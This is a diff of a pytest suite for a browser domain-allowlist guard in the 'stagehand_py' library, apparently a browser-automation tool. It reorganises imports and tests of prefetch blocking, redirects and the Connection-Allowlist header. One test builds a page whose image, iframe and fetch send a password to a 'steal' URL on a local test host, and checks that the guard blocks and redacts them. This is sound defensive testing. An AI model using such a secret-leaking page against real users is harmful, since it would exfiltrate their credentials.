@@ -17,7 +17,9 @@ from collections.abc import Callable
 import pytest
 from _server import Request, Response
 
-from stagehand_py.agent._domains import DomainGuard, url_allowed
+from stagehand_py.browser._guard import DomainGuard, _policy, _speculation, url_allowed
+from stagehand_py.browser._guard import _guard as guard_module
+from stagehand_py.browser._guard._routes import RouteCheck
 
 from .test_allowlist import SCENARIOS as KINDS
 from .test_allowlist import _run
@@ -49,7 +51,7 @@ async def _guard(page, server, how: str) -> DomainGuard:
     if how == "route-only":
         async def no_hop_check() -> None:
             return None
-        guard._watch_redirect_hops = no_hop_check  # type: ignore[method-assign]
+        guard._hops.install = no_hop_check  # type: ignore[method-assign]
     if how != "unguarded":
         await guard.install()
     return guard
@@ -234,10 +236,9 @@ async def _speculation_guard(page, server, how: str, monkeypatch) -> DomainGuard
         # The guard as it was before the remover and the Connection-Allowlist header (routes,
         # browser-level interception, prerendering off): the control that shows none of those
         # stops the prefetch.
-        from stagehand_py.agent import _domains  # the guard's own names for the remover and the headers
-        monkeypatch.setattr(_domains, "REMOVER_SOURCE", "")
-        monkeypatch.setattr(_domains, "RULES_HEADER", "x-no-such-header")
-        monkeypatch.setattr(_domains, "allowlist_enforced", lambda version: False)
+        monkeypatch.setattr(_speculation, "REMOVER_SOURCE", "")
+        monkeypatch.setattr(_speculation, "RULES_HEADER", "x-no-such-header")
+        monkeypatch.setattr(guard_module, "allowlist_enforced", lambda version: False)
     return await _guard(page, server, "unguarded" if how == "control-unguarded" else "guarded")
 
 
@@ -324,11 +325,9 @@ async def test_rules_the_remover_cannot_reach(page, server, cross_server, specul
     the browser's ``Preload`` events either way. The control is the guard on a browser that does
     not enforce the header (its version check says so): everything else of the guard in place,
     the prefetch reaches the other host, and a warning says so."""
-    from stagehand_py.agent import _domains
-
     url, hits = speculation_site(delivery)
     if how != "guarded":
-        monkeypatch.setattr(_domains, "allowlist_enforced", lambda version: False)
+        monkeypatch.setattr(guard_module, "allowlist_enforced", lambda version: False)
     guard = await _guard(page, server, "guarded")
     prefetch = ("speculation", "prefetch", cross_server.url("dyn?v=prefetch"))
     try:
@@ -357,11 +356,9 @@ async def test_a_document_reached_through_redirects_gets_the_header_too(page, se
                                                                        hops, sentinel, monkeypatch, how: str) -> None:
     """The route sees only a chain's first hop; the document at its end gets its header from the
     guard's browser-level interception."""
-    from stagehand_py.agent import _domains
-
     url, hits = speculation_site("closed-shadow-root")
     if how != "guarded":
-        monkeypatch.setattr(_domains, "ALLOWLIST_HEADER", "x-no-such-header")
+        monkeypatch.setattr(_speculation, "ALLOWLIST_HEADER", "x-no-such-header")
     guard = await _guard(page, server, "guarded")
     try:
         if how == "guarded":
@@ -400,10 +397,7 @@ async def test_the_header_admits_exactly_what_the_allowlist_admits(page, server,
                                                                    urls: list[str]) -> None:
     """Each URL pattern of the header, read by Chromium's own ``URLPattern``, against the guard's
     own reading of the allowlist."""
-    from stagehand_py.agent._domains import _parse_pattern
-    from stagehand_py.agent._speculation import connection_allowlist
-
-    header = connection_allowlist([_parse_pattern(p) for p in patterns])
+    header = _policy.connection_allowlist([_policy.parse_pattern(p) for p in patterns])
     assert header.startswith("(") and header.endswith(");redirects=allow")
     items = [json.loads(item) for item in header[1:header.index(");")].replace('" "', '"\n"').split("\n")]
     await page.goto(server.url("index.html"))
@@ -416,19 +410,14 @@ async def test_the_header_admits_exactly_what_the_allowlist_admits(page, server,
 def test_control_a_pattern_left_to_url_pattern_defaults_reads_differently() -> None:
     """Why every pattern names its port and path: the guard admits any port of a host named
     without one, and an explicit default port for the other schemes too."""
-    from stagehand_py.agent._domains import _parse_pattern
-    from stagehand_py.agent._speculation import connection_allowlist
-
-    assert connection_allowlist([_parse_pattern("example.com")]) == '("*://example.com:*/*");redirects=allow'
-    assert connection_allowlist([_parse_pattern("example.com:443")]) == (
+    assert _policy.connection_allowlist([_policy.parse_pattern("example.com")]) == '("*://example.com:*/*");redirects=allow'
+    assert _policy.connection_allowlist([_policy.parse_pattern("example.com:443")]) == (
         '("*://example.com:443/*" "https://example.com/*" "wss://example.com/*");redirects=allow')
 
 
 @pytest.mark.parametrize("version", ["156.0.7632.6", "HeadlessChrome/152.0.1.2", "151.0.7000.1", "", "unknown"])
 def test_the_header_is_used_from_chromium_152(version: str) -> None:
-    from stagehand_py.agent._speculation import allowlist_enforced
-
-    assert allowlist_enforced(version) is version.removeprefix("HeadlessChrome/").startswith(("156", "152"))
+    assert _policy.allowlist_enforced(version) is version.removeprefix("HeadlessChrome/").startswith(("156", "152"))
 
 
 SECRET = "hunter2 pass!"
@@ -438,29 +427,36 @@ SECRET = "hunter2 pass!"
 async def test_connections_the_browser_refuses_are_recorded(page, server, cross_server, hostile, monkeypatch, caplog,
                                                             how: str) -> None:
     """The header refuses a guarded document's connections elsewhere before any route or DevTools
-    interception sees them: the guard records them from the browser's failed-request events, with
-    the URL redacted in its log. The control drops those events: the refusals go unrecorded (the
-    routes never saw them), and the hostile host is still not reached."""
+    interception sees them: the guard records them from the browser's failed-request events and
+    error pages, with the URL redacted in its log. The control takes both recorders' events
+    without recording them: the events come (each waited for), nothing else records the refusals
+    (the routes never saw them), and the hostile host is still not reached."""
     from stagehand_py._secrets import redact_text
 
     steal = cross_server.url("steal?v=" + urllib.parse.quote(SECRET))
-    # window.settled: all three loads ended (each fails or arrives); the event the test waits for,
-    # after which nothing more can reach the hostile host.
+    # window.settled: once all three loads ended, how the fetch ended: 'ok' had it reached the other
+    # host (no-cors: an opaque answer), 'failed' refused. (The image and the frame tell nothing from
+    # the page: an HTML answer is no image, and a frame's error page fires onload.)
     html = (f"<!doctype html><title>t</title><img src='{steal}&img'><iframe src='{steal}&frame'></iframe>"
             "<script>const ended = (el) => new Promise((done) => { el.onload = el.onerror = done; });"
             " window.settled = Promise.all([ended(document.querySelector('img')), ended(document.querySelector('iframe')),"
-            f" fetch('{steal}&fetch').catch(() => 0)]).then(() => true);</script>")
+            f" fetch('{steal}&fetch', {{mode: 'no-cors'}}).then(() => 'ok', () => 'failed')]).then((ends) => ends[2]);"
+            "</script>")
+    seen: list[str] = []  # the control: what reached the recorders, unrecorded
     if how != "guarded":
-        monkeypatch.setattr(DomainGuard, "_on_request_failed", lambda self, request: None)
-        monkeypatch.setattr(DomainGuard, "_on_error_page", lambda self, page, frame: None)
+        monkeypatch.setattr(RouteCheck, "on_request_failed", lambda self, request: seen.append(request.url))
+        monkeypatch.setattr(DomainGuard, "_on_error_page",
+                            lambda self, page, frame: seen.append(str(frame.get("unreachableUrl") or "")))
     guard = DomainGuard([f"127.0.0.1:{server.port}"], main_page=page, redact=lambda t: redact_text(t, {"pw": SECRET}))
     await guard.install()
+    events = (lambda: len(guard.blocked) >= 3) if how == "guarded" else (
+        lambda: all(any(url.endswith(end) for url in seen) for end in ("&img", "&fetch", "&frame")))
     try:
         with server.route("/refused", lambda req: Response.html(html)), caplog.at_level("INFO", "stagehand_py"):
             await page.goto(server.url("refused"))
-            assert await page.evaluate("window.settled")
-            for _ in range(80 if how == "guarded" else 0):  # the records come as browser events
-                if len(guard.blocked) >= 3:
+            assert await page.evaluate("window.settled") == "failed"  # refused
+            for _ in range(80):  # the records (or, in the control, the events) come as browser events
+                if events():
                     break
                 await page.wait_for_timeout(250)
     finally:
@@ -474,5 +470,6 @@ async def test_connections_the_browser_refuses_are_recorded(page, server, cross_
         assert "allowed_domains: blocked" in logged
         assert SECRET not in logged and urllib.parse.quote(SECRET) not in logged
     else:
-        assert recorded == set()  # the control: no route saw them
+        assert events(), seen  # the browser's events came ...
+        assert recorded == set()  # ... and nothing else recorded the refusals: no route saw them
 
